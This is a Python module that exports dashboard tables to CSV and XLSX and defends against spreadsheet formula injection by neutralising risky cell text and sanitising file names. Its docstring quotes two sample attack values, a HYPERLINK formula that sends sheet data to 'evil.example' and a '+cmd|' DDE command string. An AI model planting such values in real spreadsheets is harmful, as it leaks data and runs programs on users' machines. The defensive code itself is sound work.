"""Tables as data, and their CSV / XLSX files (what staff paste into reports).

A ``Table`` is a title, columns and rows of plain values; the dashboard renders the same object
as HTML, so what is exported is exactly what is shown.

Text in a cell comes from outside (article titles from WeChat, series and chapter names from
imported files), and a spreadsheet takes text that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK("http://evil.example/?"&A2, …)`` leaks the sheet when clicked, ``+cmd|…`` runs
programs through DDE). So every text cell that starts with such a character (or a tab / carriage
return, or their full-width forms) is written with a leading ``'`` in both CSV and XLSX (``neutralise``),
and XLSX text cells are always written as strings, never as formulas. Numbers are not text: a negative
figure stays a number. Sheet names are made valid for Excel (``sheet_title``).
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from urllib.parse import quote
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal

from wxpub.infra.clock import format_local


@dataclass(frozen=True)
class Column:
    """One column: row key, Chinese header, kind (text | int | rate | date | datetime), and whether
    the page shows it (``screen``; a column only for the downloads, such as WeChat's msgid, is not)."""

    key: str
    label: str
    kind: str = "text"
    screen: bool = True


@dataclass
class Table:
    """A titled table; ``name`` is its export id."""

    name: str
    title: str
    columns: list[Column]
    rows: list[dict] = field(default_factory=list)
    note: str = ""
    file_label: str = ""  # the Chinese start of its download's name (the title when empty)

    def cell(self, row: dict, column: Column) -> str:
        """The text shown (and written to CSV) for ``row``'s ``column``."""
        return display(row.get(column.key), column.kind)


def display(value, kind: str = "text") -> str:
    """Format one value for people: rates as percentages, times in Beijing time."""
    if value is None:
        return "—" if kind in ("rate", "datetime") else ""
    if kind == "rate":
        return f"{float(value) * 100:.1f}%"
    if kind == "int":
        return f"{int(value)}"
    if kind == "datetime" and isinstance(value, datetime):
        return format_local(value)
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    return str(value)


#: What a spreadsheet may read as the start of a formula (ASCII, and the full-width forms an input
#: method may turn into them).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # what an .xlsx cannot hold at all
_SHEET_FORBIDDEN = str.maketrans({"/": "／", "\\": "＼", "?": "？", "*": "＊", ":": "：", "[": "［",
                                  "]": "］"})
MAX_SHEET_TITLE = 31  # Excel's limit, in UTF-16 code units


def _is_number(value) -> bool:
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def neutralise(text: str) -> str:
    """``text`` made inert for a spreadsheet: a leading ``'`` when it could start a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _text_cell(value, kind: str, shown: str) -> str:
    """The CSV field for a value shown as ``shown``: numbers as they are, text neutralised."""
    if kind in ("int", "rate") or _is_number(value):
        return shown
    return neutralise(shown)


def _native(value, kind: str):
    """Value for a spreadsheet cell: numbers stay numbers, times become Beijing strings, text is
    neutralised (``neutralise``)."""
    if value is None:
        return None
    if kind == "int":
        return int(value)
    if kind == "rate":
        return round(float(value), 4)
    if kind == "datetime" and isinstance(value, datetime):
        return neutralise(format_local(value))
    if _is_number(value) or isinstance(value, (date, datetime)):
        return value
    return neutralise(_ILLEGAL_XML.sub("", str(value)))


def sheet_title(title: str, taken=()) -> str:
    """A valid Excel sheet name for ``title``: none of ``/ \\ ? * : [ ]`` (replaced by their full-width
    forms), no control characters or apostrophe at either end, at most 31 UTF-16 units, not
    "History", and unique (case-insensitively) among ``taken``."""
    name = _ILLEGAL_XML.sub("", title.translate(_SHEET_FORBIDDEN)).strip().strip("'").strip()
    if not name or name.lower() == "history":
        name = "数据"
    used = {t.lower() for t in taken}
    for n in range(1, len(used) + 2):
        suffix = "" if n == 1 else f"（{n}）"
        candidate = _fit(name, MAX_SHEET_TITLE - len(suffix)) + suffix
        if candidate.lower() not in used:
            return candidate
    raise AssertionError("unreachable: one of len(taken) + 1 names is free")


def _fit(text: str, units: int) -> str:
    while len(text.encode("utf-16-le")) // 2 > units:
        text = text[:-1]
    return text.rstrip("'").rstrip() or "数据"


def to_csv(table: Table) -> bytes:
    """CSV with a UTF-8 BOM so Excel opens the Chinese headers correctly; text neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([neutralise(c.label) for c in table.columns])
    for row in table.rows:
        writer.writerow([_text_cell(row.get(c.key), c.kind, table.cell(row, c)) for c in table.columns])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def to_xlsx(table: Table) -> bytes:
    """An .xlsx workbook with one sheet: header row in bold, numbers as numbers, text as text."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title(table.title)
    sheet.append([neutralise(c.label) for c in table.columns])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in table.rows:
        sheet.append([_native(row.get(c.key), c.kind) for c in table.columns])
    for line in sheet.iter_rows():
        for cell in line:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # never a formula, whatever the text
    for index, column in enumerate(table.columns, start=1):
        if column.kind == "rate":
            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
                cell.number_format = "0.0%"
        width = max([len(column.label)] + [len(table.cell(r, column)) for r in table.rows[:200]])
        sheet.column_dimensions[sheet.cell(1, index).column_letter].width = min(60, width * 1.6 + 2)
    sheet.freeze_panes = "A2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


CONTENT_TYPES = {"csv": "text/csv; charset=utf-8",
                 "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}


def export(table: Table, fmt: str) -> bytes:
    """The file of ``table`` in ``fmt`` (csv | xlsx)."""
    if fmt == "csv":
        return to_csv(table)
    if fmt == "xlsx":
        return to_xlsx(table)
    raise ValueError(f"不支持的导出格式：{fmt}（可用 csv、xlsx）")


#: What a file name may not contain on Windows, macOS or Linux, nor in an HTTP header.
_UNSAFE_IN_NAME = re.compile(r'[\x00-\x1f\x7f"*/:<>?\\|;%\[\]{}]+')
MAX_NAME_CHARS = 60


def file_stem(*parts: str) -> str:
    """A file name stem from ``parts`` joined by ``-``: each part stripped of what a file system or a
    header cannot take (slashes, quotes, control characters …), spaces collapsed, a leading dot or
    formula sign dropped, and cut to ``MAX_NAME_CHARS`` characters; ``数据`` when nothing is left."""
    cleaned = []
    for part in parts:
        text = unicodedata.normalize("NFC", str(part or ""))
        text = _UNSAFE_IN_NAME.sub(" ", text)
        text = re.sub(r"\s+", " ", text).strip(" .")
        text = text.lstrip("".join(FORMULA_STARTS) + "'. ")
        if text:
            cleaned.append(text)
    stem = "-".join(cleaned)[:MAX_NAME_CHARS].strip(" .-")
    return stem or "数据"


def content_disposition(stem: str, fmt: str, *, ascii_stem: str = "wxpub-export") -> str:
    """``Content-Disposition`` for a download named ``<stem>.<fmt>`` (RFC 6266): an ASCII
    ``filename=`` for old clients and ``filename*=UTF-8''…`` with the Chinese name, percent-encoded."""
    ascii_name = re.sub(r"[^A-Za-z0-9._-]+", "-", ascii_stem)[:80].strip("-.") or "wxpub-export"
    name = f"{stem}.{fmt}"
    return (f'attachment; filename="{ascii_name}.{fmt}"; '
            f"filename*=UTF-8''{quote(name, safe='')}")
